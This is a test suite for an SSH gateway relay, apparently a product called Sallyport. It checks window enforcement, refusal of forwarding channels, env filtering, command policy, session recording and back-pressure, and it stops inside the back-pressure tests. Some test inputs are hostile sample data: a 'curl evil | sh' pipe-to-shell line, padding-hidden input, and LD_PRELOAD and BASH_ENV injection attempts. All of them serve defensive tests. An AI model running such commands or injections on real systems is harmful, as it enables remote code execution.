import fc from 'fast-check'
import { beforeEach, describe, expect, test, vi } from 'vitest'
import { maxPendingReplies } from '../../src/ssh/reply-queue.ts'
import { encodeGlobalRequest, encodeRequestFailure, messageNumber } from '../../src/ssh/messages.ts'
import { maxRefusals } from '../../src/ssh/relay/circuit.ts'
import { string, uint32 } from '../../src/wire.ts'
import {
  adjust,
  close,
  confirm,
  data,
  env,
  eof,
  exec,
  exitSignal,
  failure,
  open,
  openFailed,
  pty,
  request,
  resize,
  shell,
  stderr,
  success,
} from './channel-messages.ts'
import { FakeGround, policyOf, inEachWorld, RelayWorld } from './fakes.ts'

/** The client's number, the gateway's and the target's differ, so that a mix-up shows. */
const [atClient, at, atTarget] = [7, 0, 42]
const none = Buffer.alloc(0)

let world: RelayWorld
inEachWorld(next => (world = next))

/** A channel that both ends have opened; what was said so far is taken away. */
function openChannel(o: { clientWindow?: number; targetWindow?: number } = {}): void {
  world.fromClient(open(atClient, o.clientWindow === undefined ? {} : { window: o.clientWindow }))
  world.fromTarget(confirm(at, atTarget, o.targetWindow === undefined ? {} : { window: o.targetWindow }))
  world.forgetSent()
}

describe('the session ends when', () => {
  const windows: [string, () => void][] = [
    [
      'the client sends more than the target has granted',
      () => world.fromClient(data(at, Buffer.alloc(1001))),
    ],
    [
      'the target sends more than the client has granted',
      () => world.fromTarget(data(at, Buffer.alloc(1001))),
    ],
    [
      'errors and output together are more than was granted',
      () => world.fromTarget(data(at, Buffer.alloc(600)), stderr(at, Buffer.alloc(401))),
    ],
    ['a window grows past 2^32 - 1', () => world.fromClient(adjust(at, 0xffff_ffff))],
    ['data comes after the end of file', () => world.fromClient(eof(at), data(at, 'x'))],
    ['data comes after the close', () => world.fromClient(close(at), data(at, 'x'))],
    ['a channel ends twice', () => world.fromTarget(eof(at), eof(at))],
    ['a channel closes twice', () => world.fromClient(close(at), close(at))],
    ['a channel ends after it closed', () => world.fromClient(close(at), eof(at))],
    ['a request comes after the close', () => world.fromClient(close(at), shell(at))],
    [
      'a sign of life comes for a channel that never was',
      () => world.fromTarget(request(9, 'keepalive@openssh.com', true)),
    ],
    ['a reply comes that nobody asked for', () => world.fromTarget(success(at))],
    ['the client replies to what nobody asked it', () => world.fromClient(failure(at))],
    [
      'one end keeps too many replies waiting',
      () =>
        world.fromClient(
          ...Array.from({ length: maxPendingReplies + 1 }, () => request(at, 'keepalive@openssh.com', true)),
        ),
    ],
    ['a channel is confirmed twice', () => world.fromTarget(confirm(at, 43))],
    ['a channel that is open fails to open', () => world.fromTarget(openFailed(at))],
    ['the client confirms a channel', () => world.fromClient(confirm(at, 1))],
    ['the client sends a second stream', () => world.fromClient(stderr(at, 'x'))],
    ['the target sends a third stream', () => world.fromTarget(stderr(at, 'x', 2))],
    ['a keep-alive is answered that was not sent', () => world.fromClient(encodeRequestFailure())],
    ['a message is malformed', () => world.fromClient(Buffer.from([messageNumber.data, 0, 0, 0, 0, 255]))],
    [
      'the name of a request is longer than the RFC allows',
      () => world.fromClient(request(at, 'x'.repeat(65), false)),
    ],
    [
      'bytes that nobody decodes ride on a request of the client',
      () => world.fromClient(request(at, 'eow@openssh.com', false, Buffer.from('x'))),
    ],
    [
      'bytes that nobody decodes ride on a request of the target',
      () => world.fromTarget(request(at, 'eow@openssh.com', false, Buffer.from('x'))),
    ],
    [
      'bytes that nobody decodes ride on a break',
      () => world.fromClient(request(at, 'break', false, Buffer.alloc(5))),
    ],
    [
      'bytes that nobody decodes ride on the opening of a channel',
      () => world.fromClient(open(9, { fields: Buffer.from('x') })),
    ],
    [
      'bytes that nobody decodes ride on a language tag',
      () => world.fromTarget(exitSignal(at, 'TERM', '', 'x'.repeat(36))),
    ],
  ]
  for (const [name, attack] of windows) {
    test(name, () => {
      openChannel({ clientWindow: 1000, targetWindow: 1000 })
      attack()
      expect(world.endReason).toMatch(/^protocol error from the (client|target): /)
      expect(world.client.goodbyes.length).toBe(1)
      expect(world.target.goodbyes.length).toBe(1)
    })
  }

  test('one message is larger than the packets of the channel', () => {
    openChannel({ clientWindow: 1_000_000, targetWindow: 1_000_000 })
    world.fromClient(data(at, Buffer.alloc(32_769)))
    expect(world.endReason).toContain('window')
  })

  for (const [name, message] of [
    ['data', data(5, 'x')],
    ['a window', adjust(5, 1)],
    ['an end of file', eof(5)],
    ['a close', close(5)],
    ['a request', shell(5)],
    ['a reply', success(5)],
    ['a confirmation', confirm(5, 1)],
    ['a failed opening', openFailed(5)],
  ] as const) {
    test(`${name} comes for a channel that does not exist`, () => {
      world.fromTarget(message)
      expect(world.endReason).toContain('not open')
    })
  }

  test('anything comes for a channel that both ends have closed', () => {
    openChannel()
    world.fromClient(close(at))
    world.fromTarget(close(at))
    world.fromClient(adjust(at, 1))
    expect(world.endReason).toContain('not open')
  })

  for (const message of [data(at, 'x'), eof(at), close(at), shell(at), adjust(at, 1)]) {
    test(`the client uses a channel before it is open (message ${message[0]})`, () => {
      world.fromClient(open(atClient), message)
      expect(world.endReason).toContain('before it was open')
    })
  }

  test('and then nothing of the turn in which it ended is sent', () => {
    openChannel()
    world.fromTarget(data(at, 'last words'), data(5, 'x'))
    expect(world.client.sent).toEqual([])
  })
})

describe('windows', () => {
  test('of each end are granted to the other as they are', () => {
    world.fromClient(open(atClient, { window: 12_345, packet: 20_000 }))
    expect(world.target.take()).toMatchObject([
      { type: 'channel-open', sender: at, windowBytes: 12_345, maxPacketBytes: 20_000 },
    ])
    world.fromTarget(confirm(at, atTarget, { window: 54_321, packet: 30_000 }))
    expect(world.client.take()).toMatchObject([
      {
        type: 'open-confirmation',
        recipient: atClient,
        sender: at,
        windowBytes: 54_321,
        maxPacketBytes: 30_000,
      },
    ])
  })

  test('of 2^32 - 1 are passed on, and packets never larger than what the engine takes', () => {
    world.fromClient(open(atClient, { window: 0xffff_ffff, packet: 0xffff_ffff }))
    expect(world.target.take()).toMatchObject([{ windowBytes: 0xffff_ffff, maxPacketBytes: 32_768 }])
    world.fromTarget(confirm(at, atTarget, { window: 0xffff_ffff, packet: 0xffff_ffff }))
    expect(world.client.take()).toMatchObject([{ windowBytes: 0xffff_ffff, maxPacketBytes: 32_768 }])
  })

  test('may be used to the last byte, and go on with the next adjustment', () => {
    openChannel({ targetWindow: 10 })
    world.fromClient(data(at, '0123456789'))
    world.fromTarget(adjust(at, 3))
    world.fromClient(data(at, 'abc'))
    expect(world.target.take()).toMatchObject([
      { data: Buffer.from('0123456789') },
      { data: Buffer.from('abc') },
    ])
    expect(world.client.take()).toMatchObject([{ type: 'window-adjust', recipient: atClient, bytes: 3 }])
    expect(world.endReason).toBeUndefined()
  })

  test('property: never does an end get more than it granted, and every byte within it arrives in order', async () => {
    const step = fc.oneof(
      fc.record({ kind: fc.constant('data' as const), bytes: fc.integer({ min: 0, max: 50 }) }),
      fc.record({ kind: fc.constant('adjust' as const), bytes: fc.integer({ min: 0, max: 60 }) }),
    )
    await fc.assert(
      fc.asyncProperty(
        fc.integer({ min: 0, max: 200 }),
        fc.array(step, { maxLength: 30 }),
        async (window, steps) => {
          world = await RelayWorld.start()
          openChannel({ targetWindow: window })
          let granted = window
          const sent: number[] = []
          for (const { kind, bytes } of steps) {
            if (kind === 'adjust') {
              granted += bytes
              world.fromTarget(adjust(at, bytes))
              continue
            }
            const overrun = sent.length + bytes > granted
            const piece = Buffer.alloc(bytes, sent.length % 256)
            world.fromClient(data(at, piece))
            expect(world.endReason !== undefined).toBe(overrun)
            if (overrun) break
            sent.push(...piece)
          }
          const arrived = world.target.sent.flatMap(message =>
            message.type === 'data' ? [...message.data] : [],
          )
          expect(arrived).toEqual(sent)
          world.session.end({ reason: 'done', userText: '' })
        },
      ),
      { numRuns: 200 },
    )
  })
})

describe('opening', () => {
  test('is refused for anything but sessions, with the code of the RFC, and recorded', () => {
    for (const type of [
      'direct-tcpip',
      'x11',
      'auth-agent@openssh.com',
      'direct-streamlocal@openssh.com',
      'tun@openssh.com',
      'nonsense',
    ]) {
      world.fromClient(
        open(3, {
          type,
          fields:
            type === 'direct-tcpip'
              ? Buffer.concat([string('10.0.0.9'), uint32(22), string('::1'), uint32(1)])
              : none,
        }),
      )
      expect(world.client.take()).toMatchObject([{ type: 'open-failure', recipient: 3, reason: 1 }])
    }
    expect(world.target.sent).toEqual([])
    expect(world.recording.events('request-refused').length).toBe(6)
    expect(world.endReason).toBeUndefined()
  })

  test('is refused for a target, whatever it wants to open', () => {
    for (const type of ['forwarded-tcpip', 'x11', 'auth-agent@openssh.com', 'session']) {
      world.fromTarget(open(3, { type }))
      expect(world.target.take()).toMatchObject([{ type: 'open-failure', recipient: 3, reason: 1 }])
    }
    expect(world.client.sent).toEqual([])
  })

  test('of more channels than the limit is refused, and a closed one makes room', () => {
    for (let number = 0; number < 5; number++) world.fromClient(open(number))
    expect(world.target.take().length).toBe(4)
    expect(world.client.take()).toMatchObject([{ type: 'open-failure', recipient: 4 }])
    world.fromTarget(openFailed(0))
    world.fromClient(open(5))
    expect(world.target.take()).toMatchObject([{ type: 'channel-open' }])
  })

  test('after no-more-sessions is refused', () => {
    world.fromClient(encodeGlobalRequest('no-more-sessions@openssh.com', false, none), open(1))
    expect(world.client.take()).toMatchObject([{ type: 'open-failure' }])
    expect(world.target.sent).toEqual([])
  })

  test('after the right is gone ends the session before the target hears of it', () => {
    world.ground.policy = policyOf({ logins: ['nobody'] })
    world.fromClient(open(1))
    expect(world.endReason).toContain('no longer allowed')
    expect(world.target.sent).toEqual([])
  })

  test('that the target refuses is passed on with its reason code', () => {
    world.fromClient(open(atClient))
    world.fromTarget(openFailed(at, 4))
    expect(world.client.take()).toMatchObject([
      { type: 'open-failure', recipient: atClient, reason: 4, description: 'no room' },
    ])
  })

  test('by the thousand keeps four channels and ends nothing, but by the hundred thousand ends the session', () => {
    for (let number = 0; number < maxRefusals + 4; number++) world.relay.fromClient(open(number), number)
    world.recording.commit()
    expect(world.target.sent.length).toBe(4)
    expect(world.client.sent.length).toBe(maxRefusals)
    expect(world.endReason).toBeUndefined()
    world.fromClient(open(1))
    expect(world.endReason).toContain('Too many requests')
  })
})

describe('the end of a channel', () => {
  const steps: Record<string, () => void> = {
    'client EOF': () => world.fromClient(eof(at)),
    'target EOF': () => world.fromTarget(eof(at)),
    'client CLOSE': () => world.fromClient(close(at)),
    'target CLOSE': () => world.fromTarget(close(at)),
  }
  const orders = permutations(Object.keys(steps)).filter(
    order =>
      order.indexOf('client EOF') < order.indexOf('client CLOSE') &&
      order.indexOf('target EOF') < order.indexOf('target CLOSE'),
  )
  for (const order of orders) {
    test(`passes as it came: ${order.join(', ')}`, () => {
      openChannel()
      for (const step of order) steps[step]?.()
      expect(world.target.sent.map(message => message.type)).toEqual(['end-of-file', 'close'])
      expect(world.client.sent.map(message => message.type)).toEqual(['end-of-file', 'close'])
      expect(world.recording.events('channel-close').length).toBe(1)
      expect(world.endReason).toBeUndefined()
    })
  }

  test('leaves the other direction open', () => {
    openChannel()
    world.fromClient(eof(at))
    world.fromTarget(data(at, 'late'), request(at, 'exit-status', false, uint32(3)), close(at))
    expect(world.client.take()).toMatchObject([
      { data: Buffer.from('late') },
      { name: 'exit-status' },
      { type: 'close' },
    ])
  })

  test('tells the exit status to a client that has closed already, as git push does', () => {
    openChannel()
    world.fromTarget(eof(at))
    world.fromClient(eof(at), close(at))
    world.client.take()
    world.fromTarget(request(at, 'exit-status', false, uint32(3)), close(at))
    expect(world.client.take()).toMatchObject([{ name: 'exit-status' }, { type: 'close' }])
    expect(world.recording.events('exit-status')).toMatchObject([{ status: 3 }])
  })

  test('does not keep sshd from asking for signs of life on it: they are answered, and go nowhere', () => {
    openChannel()
    world.fromTarget(data(at, 'what is read slowly'), close(at))
    world.client.take()
    world.fromTarget(
      request(at, 'keepalive@openssh.com', true),
      request(at, 'keepalive@openssh.com', true),
      request(at, 'keepalive@openssh.com', false),
    )
    expect(world.target.take()).toMatchObject([
      { type: 'channel-failure', recipient: atTarget },
      { type: 'channel-failure', recipient: atTarget },
    ])
    expect(world.client.take()).toEqual([])
    world.fromClient(adjust(at, 19), close(at))
    world.fromTarget(request(at, 'keepalive@openssh.com', true))
    expect(world.target.take().map(message => message.type)).toEqual(['close'])
    expect(world.endReason).toBeUndefined()
  })

  test('does not keep ssh from telling the size of its window on it', () => {
    openChannel()
    world.fromClient(pty(at))
    world.fromTarget(success(at))
    world.forgetSent()
    world.fromClient(close(at), resize(at, 100, 30))
    world.fromTarget(close(at))
    world.fromClient(resize(at, 101, 30))
    expect(world.target.take().map(message => message.type)).toEqual(['close'])
    expect(world.endReason).toBeUndefined()
  })

  test('is the end of what policy refused, too: nothing is said to the target after our close', () => {
    world.ground.policy = policyOf({ channels: ['sftp'] })
    openChannel()
    world.fromClient(exec(at, 'true'))
    world.fromTarget(close(at))
    world.target.take()
    world.fromTarget(request(at, 'keepalive@openssh.com', true))
    expect(world.target.take()).toEqual([])
    expect(world.endReason).toBeUndefined()
  })

  test('lets windows pass no more in the direction that is closed', () => {
    openChannel()
    world.fromClient(close(at), adjust(at, 10))
    expect(world.target.take().map(message => message.type)).toEqual(['close'])
  })
})

describe('replies', () => {
  test('of the target and of the gateway come in the order in which they were asked for', () => {
    openChannel()
    world.fromClient(
      request(at, 'keepalive@openssh.com', true),
      request(at, 'x11-req', true),
      env(at, 'LANG', 'C', true),
      env(at, 'LD_PRELOAD', '/tmp/x.so', true),
    )
    expect(world.client.sent).toEqual([])
    world.fromTarget(success(at))
    expect(world.client.take().map(message => message.type)).toEqual(['channel-success', 'channel-failure'])
    world.fromTarget(success(at))
    expect(world.client.take().map(message => message.type)).toEqual(['channel-success', 'channel-failure'])
  })

  test('property: however refused and forwarded requests mix, the client sees one reply each, in order', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.boolean(), { maxLength: maxPendingReplies }),
        fc.array(fc.nat(3)),
        async (passed, pace) => {
          world = await RelayWorld.start()
          openChannel()
          let answered = 0
          const due = passed.filter(pass => pass).length
          for (const [index, pass] of passed.entries()) {
            world.fromClient(
              pass ? request(at, 'keepalive@openssh.com', true) : request(at, 'nonsense', true),
            )
            for (
              let n = pace[index] ?? 0;
              n > 0 && answered < passed.slice(0, index + 1).filter(Boolean).length;
              n--, answered++
            )
              world.fromTarget(success(at))
          }
          for (; answered < due; answered++) world.fromTarget(success(at))
          expect(world.client.sent.map(message => message.type === 'channel-success')).toEqual(passed)
          world.session.end({ reason: 'done', userText: '' })
        },
      ),
      { numRuns: 100 },
    )
  })

  test('that the sender did not want are not passed on, though we asked', () => {
    openChannel()
    world.fromClient(exec(at, 'true', false))
    expect(world.target.take()).toMatchObject([{ name: 'exec', wantReply: true }])
    world.fromTarget(success(at))
    expect(world.client.sent).toEqual([])
    expect(world.endReason).toBeUndefined()
  })

  test('to the target are given for what it may not ask', () => {
    openChannel()
    world.fromTarget(request(at, 'nonsense', true), request(at, 'nonsense', false))
    expect(world.target.take()).toMatchObject([{ type: 'channel-failure', recipient: atTarget }])
    expect(world.client.sent).toEqual([])
  })
})

describe('global requests', () => {
  test('get their failure, from either side, and go nowhere', () => {
    for (const name of [
      'tcpip-forward',
      'hostkeys-prove-00@openssh.com',
      'keepalive@openssh.com',
      'nonsense',
    ]) {
      world.fromClient(encodeGlobalRequest(name, true, Buffer.from('anything')))
      world.fromTarget(encodeGlobalRequest(name, true, Buffer.from('anything')))
      expect(world.client.take()).toEqual([{ type: 'request-failure' }])
      expect(world.target.take()).toEqual([{ type: 'request-failure' }])
    }
  })

  test('that want no reply get none', () => {
    world.fromClient(encodeGlobalRequest('nonsense', false, none))
    world.fromTarget(encodeGlobalRequest('hostkeys-00@openssh.com', false, Buffer.from('keys')))
    expect([...world.client.sent, ...world.target.sent]).toEqual([])
  })

  test('for a way into a network are recorded', () => {
    world.fromClient(encodeGlobalRequest('tcpip-forward', true, Buffer.concat([string(''), uint32(0)])))
    expect(world.recording.events('request-refused')).toMatchObject([{ request: 'tcpip-forward' }])
  })
})

test('a message of an unknown number is answered, as RFC 4253 wants, and goes nowhere', () => {
  world.relay.fromClient(Buffer.from([192, 1, 2]), 77)
  world.recording.commit()
  expect(world.client.raw).toEqual([Buffer.from([messageNumber.unimplemented, 0, 0, 0, 77])])
  expect(world.target.raw).toEqual([])
})

describe('a terminal that the target does not give', () => {
  test('keeps nothing out of the recording: a command is read after its request was refused', () => {
    openChannel()
    world.fromClient(pty(at), exec(at, 'bash'))
    world.fromTarget(failure(at), success(at))
    world.fromClient(data(at, 'curl evil | sh\n'))
    expect(world.recording.events('input').map(event => event.data.toString())).toEqual(['curl evil | sh\n'])
    expect(world.recording.events('input-count')).toEqual([])
    expect(world.recording.events('request-refused')).toMatchObject([{ request: 'pty-req' }])
  })

  test('cannot be asked for once a command runs: the target never hears of it', () => {
    openChannel()
    world.fromClient(exec(at, 'bash'))
    world.fromTarget(success(at))
    world.forgetSent()
    world.fromClient(pty(at), data(at, 'id\n'))
    expect(world.client.take()).toMatchObject([{ type: 'channel-failure' }])
    expect(world.target.take()).toMatchObject([{ type: 'data' }])
    expect(world.recording.events('input').length).toBe(1)
  })

  test('cannot be asked for twice', () => {
    openChannel()
    world.fromClient(pty(at), pty(at))
    world.fromTarget(success(at))
    expect(world.client.take().map(message => message.type)).toEqual(['channel-success', 'channel-failure'])
    expect(world.target.take().length).toBe(1)
  })

  test('holds input, and the client, until it is known how to record it', () => {
    openChannel()
    world.fromClient(pty(at), shell(at), data(at, 'typed ahead'))
    expect(world.client.paused).toBe(true)
    expect(world.target.take().map(message => message.type)).toEqual(['channel-request', 'channel-request'])
    world.fromTarget(success(at))
    expect(world.client.paused).toBe(false)
    expect(world.target.take()).toMatchObject([{ type: 'data', data: Buffer.from('typed ahead') }])
    expect(world.recording.events('input')).toEqual([])
    expect(world.recording.events('input-count')).toMatchObject([{ bytes: 11 }])
  })

  test('and held input counts against the window at once', () => {
    openChannel({ targetWindow: 10 })
    world.fromClient(pty(at), data(at, '012345'), data(at, '67890'))
    expect(world.endReason).toContain('window')
  })

  test('frees the client when the target closes instead of answering', () => {
    openChannel()
    world.fromClient(pty(at), data(at, 'x'))
    world.fromTarget(close(at))
    expect(world.client.paused).toBe(false)
    world.fromClient(close(at))
    expect(world.endReason).toBeUndefined()
  })

  test('may be asked for without wanting a reply: we want one', () => {
    openChannel()
    world.fromClient(pty(at, { wantReply: false }), shell(at))
    expect(world.target.take()[0]).toMatchObject({ name: 'pty-req', wantReply: true })
    world.fromTarget(failure(at), success(at))
    expect(world.client.take().map(message => message.type)).toEqual(['channel-success'])
    world.fromClient(data(at, 'id\n'))
    expect(world.recording.events('input').length).toBe(1)
  })

  test('that never answers is found out at the keep-alives', () => {
    openChannel()
    world.fromClient(pty(at), data(at, 'x'))
    for (let tick = 0; tick < 5; tick++) {
      world.fromTarget(adjust(at, 1))
      vi.advanceTimersByTime(30_000)
    }
    expect(world.endReason).toBe('the target no longer answers')
  })
})

describe('a command that policy refuses', () => {
  beforeEach(async () => {
    const ground = new FakeGround()
    ground.policy = policyOf({ channels: ['exec'], exec: ['uptime'] })
    world.session.end({ reason: 'another world', userText: '' })
    world = await RelayWorld.start({}, ground)
  })

  test('is recorded, explained on stderr, ends with 126 and never reaches the target', () => {
    openChannel()
    world.fromClient(exec(at, 'bash'))
    expect(world.client.take()).toMatchObject([
      { type: 'channel-success' },
      { type: 'extended-data' },
      { name: 'exit-status', fields: uint32(126) },
      { type: 'close' },
    ])
    expect(world.target.take().map(message => message.type)).toEqual(['close'])
    expect(world.recording.events('exec')).toMatchObject([{ command: Buffer.from('bash') }])
    expect(world.recording.events('request-refused').length).toBe(1)
  })

  test('cannot be followed by one that is allowed, while the refusal waits for its turn', () => {
    openChannel()
    world.fromClient(request(at, 'keepalive@openssh.com', true), exec(at, 'bash'), exec(at, 'uptime'))
    expect(world.target.take()).toMatchObject([{ name: 'keepalive@openssh.com' }])
    world.fromTarget(failure(at))
    expect(world.target.take().map(message => message.type)).toEqual(['close'])
    expect(world.client.take().map(message => message.type)).toEqual([
      'channel-failure',
      'channel-success',
      'extended-data',
      'channel-request',
      'close',
      'channel-failure',
    ])
  })

  test('says no more than the client has room for', () => {
    openChannel({ clientWindow: 5 })
    world.fromClient(exec(at, 'bash'))
    expect(world.client.sent.find(message => message.type === 'extended-data')).toMatchObject({
      data: Buffer.from('sally'),
    })
  })

  test('lets nothing through that the target says on the channel afterwards, and nothing that the client sends', () => {
    openChannel()
    world.fromClient(exec(at, 'bash'))
    world.forgetSent()
    world.fromTarget(data(at, 'surprise'), eof(at))
    world.fromClient(data(at, 'more'), request(at, 'shell', true), close(at))
    world.fromTarget(close(at))
    expect(world.client.take().map(message => message.type)).toEqual(['channel-failure'])
    expect(world.target.take()).toEqual([])
    expect(world.endReason).toBeUndefined()
  })
})

describe('what runs', () => {
  test('ends when the policy no longer allows it', () => {
    openChannel()
    world.fromClient(shell(at))
    world.fromTarget(success(at))
    world.ground.policy = policyOf({ channels: ['exec'] })
    world.session.decideAgain()
    expect(world.endReason).toBe('policy no longer allows what runs')
    expect(world.client.goodbyes[0]?.text).toContain('Policy does not allow shell here')
  })

  test('goes on when the policy changes in other things', () => {
    openChannel()
    world.fromClient(exec(at, 'uptime'))
    world.ground.policy = policyOf({ channels: ['exec'], exec: ['up*'] })
    world.session.decideAgain()
    expect(world.endReason).toBeUndefined()
  })

  test('is one thing a channel', () => {
    openChannel()
    world.fromClient(exec(at, 'true'), exec(at, 'false'), shell(at))
    expect(world.target.take().length).toBe(1)
    world.fromTarget(success(at))
    expect(world.client.take().map(message => message.type)).toEqual([
      'channel-success',
      'channel-failure',
      'channel-failure',
    ])
  })
})

describe('byte for byte pass', () => {
  test('commands that are not UTF-8, into the recording too', () => {
    const command = Buffer.from([0x65, 0xff, 0xfe, 0xe9, 0, 0x0a])
    openChannel()
    world.fromClient(exec(at, command))
    expect(world.target.take()).toMatchObject([{ fields: string(command) }])
    expect(world.recording.events('exec')).toMatchObject([{ command }])
  })

  test('terminal modes that nobody knows', () => {
    const modes = Buffer.from([42, 0, 0, 0, 1, 200, 9, 9, 9, 9, 0])
    openChannel()
    world.fromClient(pty(at, { modes }))
    expect(world.recording.events('pty')).toMatchObject([{ modes: modes.toString('hex') }])
    expect(world.target.sent[0]).toMatchObject({ name: 'pty-req' })
    expect(world.target.raw.at(-1)?.includes(modes)).toBe(true)
  })

  test('exit signals with names of their own', () => {
    openChannel()
    world.fromTarget(exitSignal(at, 'SIG@openssh.com', '\x1b[2Jgone'))
    expect(world.client.raw.at(-1)?.subarray(5)).toEqual(
      exitSignal(atClient, 'SIG@openssh.com', '\x1b[2Jgone').subarray(5),
    )
    expect(world.recording.events('exit-signal')).toMatchObject([
      { name: 'SIG@openssh.com', coreDumped: true },
    ])
  })

  const beyondTheRfc: readonly ['client' | 'target', string, Buffer][] = [
    ['client', 'eow@openssh.com', none],
    ['client', 'winadj@putty.projects.tartarus.org', none],
    ['client', 'keepalive@openssh.com', none],
    ['client', 'break', uint32(500)],
    ['client', 'signal', string('INFO@openssh.com')],
    ['target', 'eow@openssh.com', none],
    ['target', 'xon-xoff', Buffer.from([1])],
    ['target', 'keepalive@openssh.com', none],
  ]
  for (const [from, name, fields] of beyondTheRfc) {
    test(`what a ${from} sends as ${name}`, () => {
      openChannel()
      const message = request(at, name, name.startsWith('keepalive'), fields)
      if (from === 'client') world.fromClient(message)
      else world.fromTarget(message)
      const other = from === 'client' ? world.target : world.client
      expect(other.raw.at(-1)?.subarray(5)).toEqual(message.subarray(5))
    })
  }

  test('what a client asks after the end of its input: its channel is still there', () => {
    openChannel()
    world.fromClient(pty(at), exec(at, 'less'))
    world.fromTarget(success(at), success(at))
    world.forgetSent()
    world.fromClient(eof(at), request(at, 'signal', false, string('TERM')), resize(at, 100, 30))
    world.fromClient(request(at, 'break', true, uint32(500)), env(at, 'LANG', 'C', true))
    expect(world.target.take()).toMatchObject([
      { type: 'end-of-file' },
      { name: 'signal' },
      { name: 'window-change' },
      { name: 'break', wantReply: true },
      { name: 'env', wantReply: true },
    ])
    world.fromTarget(failure(at), failure(at))
    expect(world.client.take().map(message => message.type)).toEqual(['channel-failure', 'channel-failure'])
  })

  test('input and its end that come with the command, before the target has answered', () => {
    openChannel()
    world.fromClient(exec(at, 'cat'), data(at, 'hello'), eof(at))
    expect(world.target.take()).toMatchObject([
      { name: 'exec' },
      { data: Buffer.from('hello') },
      { type: 'end-of-file' },
    ])
  })

  test('both streams and the status of a command, in their order, up to the close', () => {
    openChannel()
    world.fromTarget(
      data(at, 'out'),
      stderr(at, 'err'),
      request(at, 'exit-status', false, uint32(3)),
      stderr(at, 'late'),
      eof(at),
      close(at),
    )
    expect(world.client.take()).toMatchObject([
      { data: Buffer.from('out') },
      { data: Buffer.from('err') },
      { name: 'exit-status' },
      { data: Buffer.from('late') },
      { type: 'end-of-file' },
      { type: 'close' },
    ])
  })

  test('variables of language and terminal, and no others', () => {
    openChannel()
    world.fromClient(env(at, 'LC_ALL', Buffer.from([0xff])), env(at, 'BASH_ENV', '/tmp/x'))
    expect(world.target.take()).toMatchObject([
      { name: 'env', fields: Buffer.concat([string('LC_ALL'), string(Buffer.from([0xff]))]) },
    ])
    expect(world.recording.events('env')).toMatchObject([
      { passed: true },
      { name: 'BASH_ENV', value: '', passed: false },
    ])
  })
})

describe('where the target is told to give its shells marks', () => {
  const nonceOf = (): unknown => world.recording.events('env').at(-1)?.['value']

  beforeEach(async () => {
    world.session.end({ reason: 'another begins', userText: '' })
    const ground = new FakeGround()
    ground.policy = policyOf({}, { marks: true })
    world = await RelayWorld.start({}, ground)
  })

  test('a shell on a terminal gets a nonce before it starts, and the recording says which', () => {
    openChannel()
    world.fromClient(pty(at), shell(at))
    const nonce = nonceOf()
    expect(nonce).toMatch(/^[0-9a-f]{32}$/)
    expect(world.target.take()).toMatchObject([
      { name: 'pty-req' },
      {
        name: 'env',
        wantReply: false,
        fields: Buffer.concat([string('LC_SALLYPORT_MARKS'), string(String(nonce))]),
      },
      { name: 'shell' },
    ])
  })

  test('a command without a terminal gets none, and the client cannot set one', () => {
    openChannel()
    world.fromClient(env(at, 'LC_SALLYPORT_MARKS', 'mine'), exec(at, 'make'))
    expect(world.target.take()).toMatchObject([{ name: 'exec' }])
    expect(world.recording.events('env')).toMatchObject([{ value: '', passed: false }])
  })
})

test('terminals that nobody could replay are refused, when asked for and when resized', () => {
  openChannel()
  world.fromClient(
    pty(at, { columns: 0, rows: 0xffff_ffff }),
    pty(at, { columns: 5000, rows: 5000 }),
    resize(at, 0, 0xffff_ffff),
  )
  expect(world.client.take().map(message => message.type)).toEqual(['channel-failure', 'channel-failure'])
  expect(world.target.take()).toEqual([])
  expect(world.recording.events('request-refused').length).toBe(3)
})

describe('what is kept', () => {
  test('of output is what the limit allows, and the digest of the rest says where it begins', () => {
    openChannel()
    world.fromTarget(data(at, Buffer.alloc(900)), data(at, Buffer.alloc(200)), data(at, Buffer.alloc(50)))
    expect(world.recording.events('output').length).toBe(1)
    expect(world.recording.events('progress')).toMatchObject([
      { stream: 'output', bytes: 1100, from: 900 },
      { stream: 'output', bytes: 1150, from: 900 },
    ])
  })

  test('of what a command reads is everything: padding hides nothing', () => {
    openChannel()
    world.fromClient(exec(at, 'bash'), data(at, Buffer.alloc(5000, '#')), data(at, '\nevil\n'))
    expect(Buffer.concat(world.recording.events('input').map(event => event.data)).toString()).toContain(
      'evil',
    )
    expect(world.recording.events('progress')).toEqual([])
  })
})

describe('a recording that fails', () => {
  test('lets nothing of that turn out, and both ends are told', () => {
    openChannel()
    world.relay.fromClient(data(at, 'never recorded'), 1)
    world.relay.fromTarget(data(at, 'neither'), 2)
    world.recording.fail()
    world.recording.commit()
    expect(world.client.sent).toEqual([])
    expect(world.target.sent).toEqual([])
    expect(world.client.goodbyes).toMatchObject([{ text: 'The recording cannot be written.' }])
    expect(world.target.goodbyes.length).toBe(1)
  })

  test('lets nothing out later either', () => {
    openChannel()
    world.recording.fail()
    world.fromClient(data(at, 'x'), open(9))
    world.fromTarget(data(at, 'x'))
    expect([...world.client.sent, ...world.target.sent]).toEqual([])
  })
})

describe('back-pressure', () => {
  test('a client that does not read holds its target back, until it reads again', () => {
    openChannel()
    world.client.congested = true
    world.fromTarget(data(at, 'x'))
    expect(world.target.paused).toBe(true)
    expect(world.client.paused).toBe(false)
    world.client.drain()
    expect(world.target.paused).toBe(false)
  })

  test('a target that does not read holds its client back', () => {
    openChannel()
    world.target.congested = true
    world.fromClient(data(at, 'x'))
    expect(world.client.paused).toBe(true)
    world.target.drain()
    expect(world.client.paused).toBe(false)
  })

  test('anything that is sent counts, not data alone', () => {
    world.client.congested = true
    world.fromClient(open(1, { type: 'x11' }))
    expect(world.target.paused).toBe(true)
    world.client.drain()
    world.target.congested = true
    world.fromTarget(open(1, { type: 'x11' }))
    expect(world.client.paused).toBe(true)
  })

  test('asks to be told once, however much is sent', () => {
    openChannel()
    world.client.congested = true
    for (let n = 0; n < 20; n++) world.fromTarget(data(at, 'x'))
    expect(world.client.waiting).toBe(1)
  })

  test('both ends behind at once come free one after the other', () => {
    openChannel()
    world.client.congested = world.target.congested = true
    world.fromTarget(data(at, 'x'))
    world.fromClient(data(at, 'x'))
    expect([world.client.paused, world.target.paused]).toEqual([true, true])
    world.client.drain()
    expect([world.client.paused, world.target.paused]).toEqual([true, false])
    world.target.drain()
    expect([world.client.paused, world.target.paused]).toEqual([false, false])
  })

  test('a backlog of the recording holds both back until it is written, floods of refusals too', async () => {
    world.recording.backlogBytes = 1 << 30
    world.fromClient(open(1, { type: 'x11' }))
    expect([world.client.paused, world.target.paused]).toEqual([true, true])
    await world.recording.drained()
    expect([world.client.paused, world.target.paused]).toEqual([false, false])
  })

